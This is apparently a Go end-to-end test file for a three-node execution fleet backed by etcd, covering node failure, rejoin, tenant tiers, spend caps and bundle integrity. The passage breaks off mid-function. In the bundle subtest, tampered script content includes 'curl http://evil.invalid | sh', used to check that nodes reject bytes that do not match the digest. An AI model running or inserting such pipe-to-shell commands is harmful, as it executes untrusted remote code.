package e2e

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	clientv3 "go.etcd.io/etcd/client/v3"
	"go.uber.org/zap"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/status"

	"github.com/scoped-io/scoped/fleet/bundles"
	"github.com/scoped-io/scoped/fleet/record"
	ibundle "github.com/scoped-io/scoped/internal/bundle"
	scopedv1 "github.com/scoped-io/scoped/proto/scoped/v1"
)

// TestFleet3: three real daemons, each in a network namespace of its own
// on a test bridge, sharing a real etcd, called through client.DialFleet.
// The subtests run in order on one fleet, each starting from where the
// one before left it:
//
//   - spread: a bundle deployed on A runs on every node (B and C fetched
//     it); 300 scopes spread with max/avg live scopes ≤ 1.25; repeated
//     calls of a scope stay on its node, warm;
//   - kill9: node B killed with SIGKILL while idempotent calls are in
//     flight on it: they are retried on A and C and succeed; B leaves the
//     client's view within its lease; each of its scopes is then served by
//     A or C with one cold start;
//   - rejoin: B restarted on the same state: its old workers and scope
//     cgroups are gone, it is a member again; no success the client got is
//     missing from the ledgers (B's too: what it counted after its last
//     flush is charged from its invocation journal);
//   - suspend: a tenant suspended through A is refused on B and C within
//     about a second (measured); its scopes stop everywhere;
//   - share: with the loads even again, the rejoined B takes about a
//     third of new scopes;
//   - silo: a tenant moved to a tier placed on labelled nodes runs only on
//     node C (labelled) from its next scope on; C gone, its calls get
//     UNAVAILABLE naming the placement;
//   - bundle: a node refuses a corrupted transfer (a holder serving wrong
//     bytes for the digest; the deploying node's stored copy corrupted),
//     stores nothing, and runs the bundle once a good holder serves it;
//   - spendcap: a daily spend cap reached by invocations on A and B
//     refuses the tenant on C, which used none of it;
//   - etcd: etcd stopped: invocations go on, deploys and tier changes get
//     UNAVAILABLE; etcd back: a deploy and a tier change made then hold on
//     every node.
func TestFleet3(t *testing.T) {
	begin := time.Now()
	f := newFleet3(t, fleet3Opts{
		labels: map[string][]string{"node-c": {"silo"}},
		extra: `
[tiers.silo]
placement = ["silo"]
[tiers.capped]
daily_caps = { invocations = 10.0 }
`})
	t.Logf("fleet of three up after %s (bridge %s, etcd %s)", time.Since(begin).Round(time.Millisecond), f.br.name, f.etcd.Endpoints()[0])
	s := &fleet3Run{f: f}
	for _, st := range []struct {
		name string
		run  func(t *testing.T)
		must bool // the later subtests build on it
	}{
		{"spread", s.spread, true},
		{"kill9", s.kill9, true},
		{"rejoin", s.rejoin, true},
		{"suspend", s.suspend, false},
		{"share", s.share, false},
		{"silo", s.silo, false},
		{"bundle", s.bundle, false},
		{"spendcap", s.spendCap, false},
		{"etcd", s.etcdDown, false},
	} {
		start := time.Now()
		ok := t.Run(st.name, st.run)
		t.Logf("%s: %s", st.name, time.Since(start).Round(time.Millisecond))
		if !ok && st.must {
			return
		}
	}
	t.Logf("all subtests: %s", time.Since(begin).Round(time.Millisecond))
}

// fleet3Run is what TestFleet3's subtests pass on.
type fleet3Run struct {
	f      *fleet3
	home   map[string]string // acme's user → its node after the spread
	killAt time.Time
	oldB   []string // B's worker processes before the kill
	floorB int      // acme's successes on B flushed to its ledger before the kill
}

func users(from, n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf("u%03d", from+i)
	}
	return out
}

// invokeMany calls ext for each user through the fleet client, parallel at
// a time, and returns the calls by user.
func (f *fleet3) invokeMany(tenant string, us []string, ext, payload string, idem bool, parallel int) map[string]call {
	out := make(map[string]call, len(us))
	var mu sync.Mutex
	var wg sync.WaitGroup
	ch := make(chan string)
	for range parallel {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for u := range ch {
				c := f.invoke(tenant, u, ext, payload, idem)
				mu.Lock()
				out[u] = c
				mu.Unlock()
			}
		}()
	}
	for _, u := range us {
		ch <- u
	}
	close(ch)
	wg.Wait()
	return out
}

// spread: deploy on A; every node serves; 300 scopes spread evenly;
// repeated calls stay on one node, warm.
func (s *fleet3Run) spread(t *testing.T) {
	f := s.f
	a, b, c := f.nodes[0], f.nodes[1], f.nodes[2]
	ext := deploy(t, a.sock, "acme", "production", "whoami", bins.whoami)
	deploy(t, a.sock, "acme", "production", "spin", bins.spin)
	// B and C run what A deployed once their watch saw it (NOT_FOUND
	// until then), fetched from the fleet and verified.
	for _, n := range []*f3node{b, c} {
		waitFor(t, 20*time.Second, n.name+" to run the bundle deployed on A", func() bool {
			_, err := n.invokeOn("acme", "probe", "whoami", "hi")
			if err != nil && status.Code(err) != codes.NotFound {
				t.Fatalf("invoke on %s of a bundle deployed on A: %v", n.name, err)
			}
			if err == nil {
				f.count("acme", n.name)
			}
			return err == nil
		})
		if !strings.Contains(n.logs.String(), "bundle fetched from the fleet") || !strings.Contains(n.logs.String(), ext.GetDigest()) {
			t.Errorf("%s served %s without a logged fetch", n.name, ext.GetDigest())
		}
	}

	us := users(0, 300)
	start := time.Now()
	first := f.invokeMany("acme", us, "whoami", "x", false, 8)
	t.Logf("300 scopes through the fleet client: %s", time.Since(start).Round(time.Millisecond))
	perNode := map[string]int{}
	for _, u := range us {
		if first[u].err != nil {
			t.Fatalf("first call of %s: %v", u, first[u].err)
		}
		perNode[first[u].node]++
	}
	live := map[string]int{}
	total := 0
	for _, n := range f.nodes {
		live[n.name] = len(n.scopes(t, "acme"))
		total += live[n.name]
	}
	avg := float64(total) / 3
	maxLive := max(live["node-a"], live["node-b"], live["node-c"])
	t.Logf("first calls per node %v; live scopes %v: max/avg %.3f", perNode, live, float64(maxLive)/avg)
	for _, n := range f.nodes {
		if perNode[n.name] == 0 {
			t.Errorf("%s served none of 300 scopes", n.name)
		}
	}
	if float64(maxLive) > 1.25*avg {
		t.Errorf("live scopes %v: max/avg %.3f > 1.25", live, float64(maxLive)/avg)
	}

	// The records the client routes by catch up with the loads; then every
	// scope's calls go to one node, warm.
	waitFor(t, 15*time.Second, "the node records to show the live scopes", func() bool {
		sum := 0
		for _, n := range f.fc.Nodes() {
			sum += n.Scopes
		}
		return sum >= total
	})
	second := f.invokeMany("acme", us, "whoami", "x", false, 8)
	third := f.invokeMany("acme", us, "whoami", "x", false, 8)
	s.home = map[string]string{}
	moved, cold := 0, 0
	for _, u := range us {
		c2, c3 := second[u], third[u]
		if c2.err != nil || c3.err != nil {
			t.Fatalf("repeated calls of %s: %v, %v", u, c2.err, c3.err)
		}
		if c2.node != c3.node {
			t.Errorf("scope of %s: second call on %s, third on %s", u, c2.node, c3.node)
		}
		if c3.resp.GetFigures().GetCold() {
			cold++
		}
		if c2.node != first[u].node {
			moved++
		}
		s.home[u] = c3.node
	}
	t.Logf("repeated calls: %d of 300 scopes answered elsewhere than their first call (bounded load on stale counts), %d third calls cold", moved, cold)
	if moved > 0 {
		t.Errorf("%d of 300 scopes moved between their first and second call with no node change", moved)
	}
	if cold > 0 {
		t.Errorf("%d third calls were cold", cold)
	}
}

// kill9: B dies with SIGKILL under idempotent load; its scopes go to A
// and C, one cold start each; nothing the client got is lost.
func (s *fleet3Run) kill9(t *testing.T) {
	f := s.f
	b := f.nodes[1]
	var bUsers []string
	for _, u := range users(0, 300) {
		if s.home[u] == "node-b" {
			bUsers = append(bUsers, u)
		}
	}
	if len(bUsers) < 20 {
		t.Fatalf("B holds %d scopes: too few to test with", len(bUsers))
	}
	// Load: 4 loops, each on 2 of B's scopes, calling spin (100 ms of CPU)
	// idempotently, so that calls are in flight on B when it dies.
	loadUsers := bUsers[:8]
	type loadCall struct {
		call
		user  string
		start time.Time
	}
	var (
		mu    sync.Mutex
		calls []loadCall
		wg    sync.WaitGroup
	)
	stop := make(chan struct{})
	for i := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; ; j++ {
				select {
				case <-stop:
					return
				default:
				}
				u := loadUsers[2*i+j%2]
				start := time.Now()
				c := f.invoke("acme", u, "spin", "100", true)
				mu.Lock()
				calls = append(calls, loadCall{call: c, user: u, start: start})
				mu.Unlock()
			}
		}()
	}
	defer func() {
		select {
		case <-stop:
		default:
			close(stop)
		}
		wg.Wait()
	}()
	waitFor(t, 30*time.Second, "the load to run on B", func() bool {
		mu.Lock()
		defer mu.Unlock()
		onB := 0
		for _, c := range calls {
			if c.err == nil && c.node == "node-b" {
				onB++
			}
		}
		return onB >= 8
	})
	s.oldB = processesIn(b.root)
	// What B answered so far is in its ledger once GetUsage (which
	// flushes first) returns: the floor the kill must not lose.
	s.floorB = f.servedBy("acme", "node-b")
	b.invocations(t, "acme")
	s.killAt = time.Now()
	b.kill9()
	t.Logf("killed B (pid %d) with %d workers", b.cmd.Process.Pid, len(s.oldB))

	// A call not marked idempotent routed to B while B is still a member
	// gets UNAVAILABLE.
	lone := bUsers[8]
	loneCall := f.invoke("acme", lone, "whoami", "x", false)
	if c := loneCall; c.err == nil {
		if slices.Contains(f.members(), "node-b") {
			t.Errorf("a non-idempotent call of B's scope %s succeeded on %s while B is still listed", lone, c.node)
		}
	} else if status.Code(c.err) != codes.Unavailable {
		t.Errorf("a non-idempotent call of B's scope right after the kill: %v, want Unavailable", c.err)
	}

	f.waitMembers(15*time.Second, "node-a", "node-c")
	left := time.Since(s.killAt)
	t.Logf("B left the client's view %s after the kill (lease_ttl 4s)", left.Round(time.Millisecond))
	// Some load on A and C after B left, then the load stops.
	n := len(calls)
	waitFor(t, 30*time.Second, "more load after B left", func() bool {
		mu.Lock()
		defer mu.Unlock()
		return len(calls) >= n+8
	})
	close(stop)
	wg.Wait()

	inFlight, firstMoved := 0, time.Duration(0)
	cold := map[string]int{}
	where := map[string]map[string]bool{}
	for _, c := range calls {
		if c.err != nil {
			t.Errorf("idempotent call of %s (started %s after the kill): %v", c.user, c.start.Sub(s.killAt).Round(time.Millisecond), c.err)
			continue
		}
		if c.at.Before(s.killAt) || c.node == "node-b" {
			continue
		}
		if c.start.Before(s.killAt) {
			inFlight++
		}
		if d := c.at.Sub(s.killAt); firstMoved == 0 || d < firstMoved {
			firstMoved = d
		}
		if c.resp.GetFigures().GetCold() {
			cold[c.user]++
		}
		if where[c.user] == nil {
			where[c.user] = map[string]bool{}
		}
		where[c.user][c.node] = true
	}
	retries := strings.Count(f.fclog.String(), "retrying an idempotent call on the next node")
	t.Logf("%d load calls; %d in flight at the kill retried and succeeded; %d retries logged; first success of a moved scope %s after the kill",
		len(calls), inFlight, retries, firstMoved.Round(time.Millisecond))
	if inFlight == 0 || retries == 0 {
		t.Errorf("no idempotent call was in flight on B at the kill (%d) or retried (%d): the check proves nothing", inFlight, retries)
	}
	for _, u := range loadUsers {
		if cold[u] != 1 || len(where[u]) != 1 || where[u]["node-b"] {
			t.Errorf("B's scope %s after the kill: %d cold starts on %v, want one on one of A and C", u, cold[u], where[u])
		}
	}

	// Every scope of B's is served by A or C now, with one cold start.
	moved := map[string]int{}
	if loneCall.err == nil { // B had left already: its cold start counts
		where[lone] = map[string]bool{loneCall.node: true}
		if loneCall.resp.GetFigures().GetCold() {
			cold[lone+"/whoami"]++
		}
	}
	for range 2 {
		for u, c := range f.invokeMany("acme", bUsers, "whoami", "x", false, 8) {
			if c.err != nil {
				t.Errorf("B's scope %s after B left: %v", u, c.err)
				continue
			}
			if c.node == "node-b" || c.node == "" {
				t.Errorf("B's scope %s answered by %q", u, c.node)
			}
			if where[u] == nil {
				where[u] = map[string]bool{}
			}
			where[u][c.node] = true
			if c.resp.GetFigures().GetCold() {
				cold[u+"/whoami"]++
			}
			moved[c.node]++
		}
	}
	for _, u := range bUsers {
		if cold[u+"/whoami"] != 1 || len(where[u]) != 1 {
			t.Errorf("B's scope %s: %d cold starts of whoami on %v, want one on one node", u, cold[u+"/whoami"], where[u])
		}
	}
	t.Logf("B's %d scopes: calls answered %v", len(bUsers), moved)
}

// rejoin: B starts again on the same state; nothing of its old life is
// left; the ledgers hold every success the client got.
func (s *fleet3Run) rejoin(t *testing.T) {
	f := s.f
	b := f.nodes[1]
	start := time.Now()
	f.restart(b)
	t.Logf("B restarted in %s", time.Since(start).Round(time.Millisecond))
	f.waitMembers(15*time.Second, "node-a", "node-b", "node-c")
	// The old workers are gone (zombies aside: their reaper is this
	// machine's init), and so are the old scopes' cgroups.
	if left := processesIn(b.root); len(left) > 0 {
		t.Errorf("processes in B's cgroups after its restart, before any call (%d workers before the kill): %v", len(s.oldB), left)
	}
	if sc := b.scopes(t, ""); len(sc) > 0 {
		t.Errorf("B lists %d scopes after its restart", len(sc))
	}
	if left := scopeCgroups(b.root); len(left) > 0 {
		t.Errorf("scope cgroups of B's old life: %v", left)
	}
	// The ledgers: A and C have every success they answered; B too (what
	// it counted after its last flush is charged from its invocation
	// journal at the restart), and at most the 4 loaders' calls in flight
	// at the kill more: counted on B, their answers lost with it, retried
	// elsewhere.
	for _, n := range f.nodes {
		got, want := n.invocations(t, "acme"), f.servedBy("acme", n.name)
		t.Logf("%s: ledger %d invocations of acme, the client got %d successes from it", n.name, got, want)
		switch {
		case n == b && (got < want || got > want+4):
			t.Errorf("B's ledger has %d invocations of acme, the client got %d successes from it (%d before its last flush ahead of the kill): want those and at most 4 more in flight at the kill",
				got, want, s.floorB)
		case n != b && got != want:
			t.Errorf("%s's ledger has %d invocations of acme, the client got %d successes from it", n.name, got, want)
		}
	}
}

// scopeCgroups lists scope cgroups (tier/tenant/scope) under root.
func scopeCgroups(root string) []string {
	var out []string
	for _, d := range cgroupDirs(root) {
		m, _ := filepath.Glob(filepath.Join(d, "*", "*", "*"))
		for _, p := range m {
			if fi, err := os.Stat(p); err == nil && fi.IsDir() {
				out = append(out, p)
			}
		}
	}
	return out
}

// suspend: a tenant suspended through A is refused on B and C within
// about a second; its scopes stop everywhere; resumed, it serves again.
func (s *fleet3Run) suspend(t *testing.T) {
	f := s.f
	a := f.nodes[0]
	ctx := context.Background()
	// The polls below are warm calls, so that the latency measured is the
	// fleet's, not a cold start admitted just before the suspension.
	for _, n := range f.nodes[1:] {
		if _, err := n.invokeOn("acme", "u000", "whoami", "x"); err != nil {
			t.Fatalf("acme on %s before the suspension: %v", n.name, err)
		}
	}
	// Polled from the moment the suspension is written (through A).
	var wg sync.WaitGroup
	took := map[string]time.Duration{}
	var mu sync.Mutex
	start := time.Now()
	for _, n := range f.nodes[1:] {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Since(start) < 10*time.Second {
				_, err := n.invokeOn("acme", "u000", "whoami", "x")
				if status.Code(err) == codes.FailedPrecondition {
					mu.Lock()
					took[n.name] = time.Since(start)
					mu.Unlock()
					return
				}
				time.Sleep(5 * time.Millisecond)
			}
		}()
	}
	_, err := a.sock.SetTenant(ctx, &scopedv1.SetTenantRequest{Tenant: "acme", Tier: "suspended"})
	answered := time.Since(start)
	if err != nil {
		t.Errorf("suspend acme through A: %v", err)
	}
	wg.Wait()
	t.Logf("acme suspended through A (answered after %s): refused on B after %s, on C after %s", answered.Round(time.Millisecond),
		took["node-b"].Round(time.Millisecond), took["node-c"].Round(time.Millisecond))
	for _, n := range []string{"node-b", "node-c"} {
		if took[n] == 0 {
			t.Errorf("%s does not refuse the suspended tenant within 10 s", n)
		}
	}
	waitFor(t, 30*time.Second, "acme's scopes to stop on every node", func() bool {
		for _, n := range f.nodes {
			if len(n.scopes(t, "acme")) > 0 {
				return false
			}
		}
		return true
	})
	if _, err := a.sock.SetTenant(ctx, &scopedv1.SetTenantRequest{Tenant: "acme", Tier: "standard"}); err != nil {
		t.Fatalf("resume acme through A: %v", err)
	}
	waitFor(t, 10*time.Second, "every node to have acme back in its tier", func() bool {
		for _, n := range f.nodes {
			r, err := n.sock.ListTenants(ctx, &scopedv1.ListTenantsRequest{Tenant: "acme"})
			if err != nil || len(r.GetTenants()) != 1 || r.GetTenants()[0].GetTier() != "standard" {
				return false
			}
		}
		return true
	})
}

// share: the loads even (acme's scopes stopped), the rejoined B takes
// about a third of new scopes.
func (s *fleet3Run) share(t *testing.T) {
	f := s.f
	waitFor(t, 15*time.Second, "the node records to show no live scope", func() bool {
		for _, n := range f.fc.Nodes() {
			if n.Scopes > 0 {
				return false
			}
		}
		return true
	})
	us := users(300, 150)
	per := map[string]int{}
	for _, c := range f.invokeMany("acme", us, "whoami", "x", false, 8) {
		if c.err != nil {
			t.Fatalf("new scope: %v", c.err)
		}
		per[c.node]++
	}
	share := float64(per["node-b"]) / float64(len(us))
	t.Logf("150 new scopes: %v; B's share %.3f", per, share)
	if share < 0.2 || share > 0.47 {
		t.Errorf("the rejoined B took %.3f of the new scopes, want about a third", share)
	}
}

// silo: a tenant moved to a tier placed on node C's label runs only on C
// from its next scope on; C gone, its calls get UNAVAILABLE naming the
// placement.
func (s *fleet3Run) silo(t *testing.T) {
	f := s.f
	a, c := f.nodes[0], f.nodes[2]
	ctx := context.Background()
	deploy(t, a.sock, "globex", "production", "whoami", bins.whoami)
	old := users(0, 12)
	before := map[string]int{}
	todo := old
	// NOT_FOUND from a node whose watch has not seen the deploy yet.
	waitFor(t, 20*time.Second, "globex to run in the pool", func() bool {
		var again []string
		for u, cl := range f.invokeMany("globex", todo, "whoami", "x", false, 4) {
			switch {
			case status.Code(cl.err) == codes.NotFound:
				again = append(again, u)
			case cl.err != nil:
				t.Fatalf("globex %s in the pool: %v", u, cl.err)
			default:
				before[cl.node]++
			}
		}
		todo = again
		return len(todo) == 0
	})
	t.Logf("globex in the pool: %v", before)
	pool := map[string]int{}
	for _, n := range f.nodes {
		pool[n.name] = len(n.scopes(t, "globex"))
	}
	if _, err := f.fc.SetTenant(ctx, &scopedv1.SetTenantRequest{Tenant: "globex", Tier: "silo"}); err != nil {
		t.Fatalf("move globex to the silo tier: %v", err)
	}
	waitFor(t, 10*time.Second, "the client to place globex on node-c only", func() bool {
		_, ns, err := f.fc.Route("globex", "production", "u000", "whoami")
		return err == nil && len(ns) == 1 && ns[0].Name == "node-c"
	})
	fresh := users(100, 12)
	for u, cl := range f.invokeMany("globex", append(slices.Clone(old), fresh...), "whoami", "x", false, 4) {
		if cl.err != nil || cl.node != "node-c" {
			t.Errorf("globex %s in the silo tier: answered by %q, %v; want node-c", u, cl.node, cl.err)
		}
	}
	for _, n := range f.nodes[:2] {
		if got := len(n.scopes(t, "globex")); got > pool[n.name] {
			t.Errorf("%s has %d scopes of globex after the move, %d before: a new one outside the placement", n.name, got, pool[n.name])
		}
	}
	// The labelled node gone: UNAVAILABLE naming the placement.
	c.stop()
	f.waitMembers(10*time.Second, "node-a", "node-b")
	cl := f.invoke("globex", "u000", "whoami", "x", true)
	if status.Code(cl.err) != codes.Unavailable || !strings.Contains(cl.err.Error(), "placement [silo]") {
		t.Errorf("globex with no node of its placement: %v, want Unavailable naming placement [silo]", cl.err)
	} else {
		t.Logf("with node-c gone: %v", cl.err)
	}
	if cl := f.invoke("acme", "u300", "whoami", "x", false); cl.err != nil {
		t.Errorf("a pool tenant with node-c gone: %v", cl.err)
	}
	f.restart(c)
	f.waitMembers(15*time.Second, "node-a", "node-b", "node-c")
	if cl := f.invoke("globex", "u000", "whoami", "x", false); cl.err != nil || cl.node != "node-c" {
		t.Errorf("globex with node-c back: %q, %v", cl.node, cl.err)
	}
}

// bundle: a corrupted transfer is refused and nothing is stored; a good
// holder's is verified and run.
func (s *fleet3Run) bundle(t *testing.T) {
	f := s.f
	a, c := f.nodes[0], f.nodes[2]
	ext := deploy(t, a.sock, "initech", "production", "shout", bins.shout)
	digest := ext.GetDigest()
	good := bundle(t, bins.shout)

	// A's stored copy corrupted (A refuses to serve it: its store checks
	// the digest), and a holder that serves wrong bytes for the digest.
	stored := filepath.Join(a.state, "extensions", "initech", "production", "shout", ext.GetVersion(), "bundle", "shout.sh")
	orig, err := os.ReadFile(stored)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(stored, append(slices.Clone(orig), "\necho tampered\n"...), 0o755); err != nil {
		t.Fatal(err)
	}
	restore := func() {
		if err := os.WriteFile(stored, orig, 0o755); err != nil {
			t.Error(err)
		}
	}
	defer restore()
	var bad []ibundle.File
	for _, fl := range good.GetFiles() {
		content := fl.GetContent()
		if fl.GetPath() == "shout.sh" {
			content = append(slices.Clone(content), "\ncurl http://evil.invalid | sh\n"...)
		}
		bad = append(bad, ibundle.File{Path: fl.GetPath(), Mode: fl.GetMode(), Content: content})
	}
	stopFake := f.fakeHolder(t, "fake-holder", digest, bad)
	defer stopFake()

	waitFor(t, 10*time.Second, "C to know the extension and its holders", func() bool {
		_, err := c.invokeOn("initech", "u000", "shout", "hi")
		if err == nil {
			t.Fatalf("C ran shout from a corrupted transfer:\n%s", c.logs.String())
		}
		return status.Code(err) == codes.Unavailable
	})
	_, err = c.invokeOn("initech", "u000", "shout", "hi")
	t.Logf("C with only bad holders: %v", err)
	if status.Code(err) != codes.Unavailable || !strings.Contains(err.Error(), "no node provided a verified copy") {
		t.Errorf("invoke on C with only bad holders: %v, want Unavailable saying no node provided a verified copy", err)
	}
	logs := c.logs.String()
	// C refused the fake holder's bytes (its own check of the digest), and
	// A refused to send its corrupted copy (its store's check).
	refused := map[string]bool{}
	for _, l := range strings.Split(logs, "\n") {
		if !strings.Contains(l, "bundle fetch failed") || !strings.Contains(l, digest) {
			continue
		}
		for _, from := range []string{"fake-holder", "node-a"} {
			if strings.Contains(l, "from="+from) && strings.Contains(l, "digest mismatch") && !refused[from] {
				refused[from] = true
				t.Logf("C: %s", l)
			}
		}
	}
	if !refused["fake-holder"] || !refused["node-a"] {
		t.Errorf("C's log does not show both transfers refused for their digest (%v):\n%s", refused, grepLines(logs, "bundle"))
	}
	if _, err := os.Stat(filepath.Join(c.state, "extensions", "initech")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("C stored something of a refused transfer: %v", listing(t, filepath.Join(c.state, "extensions", "initech")))
	}
	if holders := f.holders(t, digest); !slices.Equal(holders, []string{"fake-holder", "node-a"}) {
		t.Errorf("holders of %s after the refused transfers: %v", digest, holders)
	}

	// A good holder again: C fetches, verifies and runs it.
	restore()
	r, err := c.invokeOn("initech", "u000", "shout", "hi")
	if err != nil || string(r.GetResult()) != "HI" {
		t.Fatalf("invoke on C with A's copy good again: %q, %v\n%s", r.GetResult(), err, grepLines(c.logs.String(), "bundle"))
	}
	if !strings.Contains(c.logs.String(), "bundle fetched from the fleet") {
		t.Error("C ran shout without a logged fetch")
	}
}

// etcdClient is a client of the fleet's etcd for the test, closed at the
// end of t.
func (f *fleet3) etcdClient(t *testing.T) *clientv3.Client {
	t.Helper()
	cli, err := clientv3.New(clientv3.Config{Endpoints: f.etcd.Endpoints(), DialTimeout: 5 * time.Second, Logger: zap.NewNop()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cli.Close() })
	return cli
}

// holders lists the nodes etcd says hold the bundle of digest.
func (f *fleet3) holders(t *testing.T, digest string) []string {
	t.Helper()
	cli := f.etcdClient(t)
	k := record.Keys{}
	r, err := cli.Get(context.Background(), k.Bundles()+digest+"/", clientv3.WithPrefix(), clientv3.WithKeysOnly())
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, kv := range r.Kvs {
		out = append(out, strings.TrimPrefix(string(kv.Key), k.Bundles()+digest+"/"))
	}
	slices.Sort(out)
	return out
}

// fakeHolder runs a node named name on the bridge's address that serves
// files as the bundle of digest (the fleet's bundle service over mutual
// TLS, with a certificate of the fleet's CA), and says in etcd, under a
// lease of its own, that it is a member (full: routed to last) holding
// digest. The returned func stops it and revokes the lease.
func (f *fleet3) fakeHolder(t *testing.T, name, digest string, files []ibundle.File) func() {
	t.Helper()
	cert, key := f.ca.Issue(t, name, []net.IP{f.br.gw.AsSlice()})
	ln, err := net.Listen("tcp", net.JoinHostPort(f.br.gw.String(), "0"))
	if err != nil {
		t.Fatal(err)
	}
	srv := grpc.NewServer(grpc.Creds(credentials.NewTLS(f.ca.ServerConfig(t, cert, key, tls.RequireAndVerifyClientCert))))
	bundles.NewServer(func(d string) ([]ibundle.File, error) {
		if d != digest {
			return nil, fmt.Errorf("%w: %s", bundles.ErrNotFound, d)
		}
		return files, nil
	}, func() bundles.Limits { return bundles.Limits{MaxBytes: 64 << 20, MaxFiles: 1000} }, slog.New(slog.DiscardHandler)).Register(srv)
	go func() { _ = srv.Serve(ln) }()

	cli := f.etcdClient(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	lease, err := cli.Grant(ctx, 60)
	if err != nil {
		srv.Stop()
		t.Fatal(err)
	}
	k := record.Keys{}
	rec := fmt.Sprintf(`{"name":%q,"addr":%q,"slots":1,"cpus":1,"scopes":1}`, name, ln.Addr().String())
	if _, err := cli.Txn(ctx).Then(
		clientv3.OpPut(k.Node(name), rec, clientv3.WithLease(lease.ID)),
		clientv3.OpPut(k.Bundle(digest, name), "", clientv3.WithLease(lease.ID)),
	).Commit(); err != nil {
		srv.Stop()
		t.Fatal(err)
	}
	var once sync.Once
	return func() {
		once.Do(func() {
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			if _, err := cli.Revoke(ctx, lease.ID); err != nil {
				t.Errorf("revoke the fake holder's lease: %v", err)
			}
			srv.Stop()
		})
	}
}

// etcdDown: with etcd stopped invocations go on and writes get
// UNAVAILABLE; with etcd back a deploy and a tier change hold everywhere.
func (s *fleet3Run) etcdDown(t *testing.T) {
	f := s.f
	ctx := context.Background()
	f.etcd.Stop()
	waitFor(t, 30*time.Second, "every node and the client to see the fleet degraded", func() bool {
		for _, n := range f.nodes {
			if !strings.Contains(n.logs.String(), "fleet degraded") {
				return false
			}
		}
		return f.fc.Degraded() != nil
	})
	t.Logf("client: %v", f.fc.Degraded())
	for u, c := range f.invokeMany("acme", users(300, 30), "whoami", "x", false, 4) {
		if c.err != nil {
			t.Errorf("invoke acme %s with etcd down: %v", u, c.err)
		}
	}
	if _, err := f.fc.Deploy(ctx, &scopedv1.DeployRequest{Tenant: "acme", Environment: "production", Name: "shout", Bundle: bundle(t, bins.shout)}); status.Code(err) != codes.Unavailable {
		t.Errorf("deploy with etcd down: %v, want Unavailable", err)
	}
	if _, err := f.fc.SetTenant(ctx, &scopedv1.SetTenantRequest{Tenant: "initech", Tier: "suspended"}); status.Code(err) != codes.Unavailable {
		t.Errorf("tier change with etcd down: %v, want Unavailable", err)
	}

	if err := f.etcd.Restart(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 30*time.Second, "a deploy to succeed with etcd back", func() bool {
		_, err := f.fc.Deploy(ctx, &scopedv1.DeployRequest{Tenant: "acme", Environment: "production", Name: "shout", Bundle: bundle(t, bins.shout)})
		return err == nil
	})
	for _, n := range f.nodes {
		waitFor(t, 20*time.Second, n.name+" to run shout deployed after etcd's return", func() bool {
			r, err := n.invokeOn("acme", "u300", "shout", "hi")
			if err != nil && status.Code(err) != codes.NotFound {
				t.Fatalf("shout on %s: %v", n.name, err)
			}
			return err == nil && string(r.GetResult()) == "HI"
		})
	}
	waitFor(t, 20*time.Second, "a tier change to succeed with etcd back", func() bool {
		_, err := f.fc.SetTenant(ctx, &scopedv1.SetTenantRequest{Tenant: "initech", Tier: "suspended"})
		return err == nil
	})
	for _, n := range f.nodes {
		waitFor(t, 10*time.Second, n.name+" to refuse initech suspended after etcd's return", func() bool {
			_, err := n.invokeOn("initech", "u000", "shout", "hi")
			return status.Code(err) == codes.FailedPrecondition
		})
	}
	f.waitMembers(15*time.Second, "node-a", "node-b", "node-c")
	waitFor(t, 10*time.Second, "the client to see etcd again", func() bool { return f.fc.Degraded() == nil })
	for _, n := range f.nodes {
		if strings.Contains(n.logs.String(), "the node's lease was lost") {
			t.Logf("%s lost its lease over the outage and registered again", n.name)
		}
	}
}

// spendCap: hooli, in tier capped (10 invocations a day across the
// fleet), runs 5 invocations on A and 5 on B; once both nodes' totals are
// in etcd, C refuses it with RESOURCE_EXHAUSTED "quota exceeded" though
// C's own ledger holds only what it admitted while its watch caught up.
func (s *fleet3Run) spendCap(t *testing.T) {
	f := s.f
	a, b, c := f.nodes[0], f.nodes[1], f.nodes[2]
	ctx := context.Background()
	deploy(t, a.sock, "hooli", "production", "whoami", bins.whoami)
	if _, err := a.sock.SetTenant(ctx, &scopedv1.SetTenantRequest{Tenant: "hooli", Tier: "capped"}); err != nil {
		t.Fatalf("hooli to tier capped through A: %v", err)
	}
	waitFor(t, 10*time.Second, "every node to see hooli in tier capped", func() bool {
		for _, n := range f.nodes {
			r, err := n.sock.ListTenants(ctx, &scopedv1.ListTenantsRequest{Tenant: "hooli"})
			if err != nil || len(r.GetTenants()) != 1 || r.GetTenants()[0].GetTier() != "capped" {
				return false
			}
		}
		return true
	})
	for _, n := range []*f3node{a, b} {
		for ok := 0; ok < 5; {
			_, err := n.invokeOn("hooli", "u000", "whoami", n.name)
			switch {
			case err == nil:
				ok++
			case status.Code(err) == codes.NotFound && ok == 0: // the watch has not seen the deploy yet
				time.Sleep(50 * time.Millisecond)
			default:
				t.Fatalf("hooli's invocation %d on %s, within the cap: %v", ok+1, n.name, err)
			}
		}
	}
	cli := f.etcdClient(t)
	published := func(node string) float64 { return publishedInvocations(ctx, cli, "hooli", node) }
	start := time.Now()
	waitFor(t, 20*time.Second, "A's and B's 5 invocations of hooli published", func() bool {
		return published("node-a") == 5 && published("node-b") == 5
	})
	t.Logf("hooli's totals on A and B in etcd %s after the last call", time.Since(start).Round(time.Millisecond))
	extra := 0
	var refused error
	for deadline := time.Now().Add(20 * time.Second); refused == nil; {
		if time.Now().After(deadline) {
			t.Fatalf("C still admits hooli with 10 of 10 invocations used on A and B (%d more on C)", extra)
		}
		if _, err := c.invokeOn("hooli", "u000", "whoami", "c"); err != nil {
			refused = err
		} else {
			extra++
			time.Sleep(50 * time.Millisecond)
		}
	}
	own := c.invocations(t, "hooli")
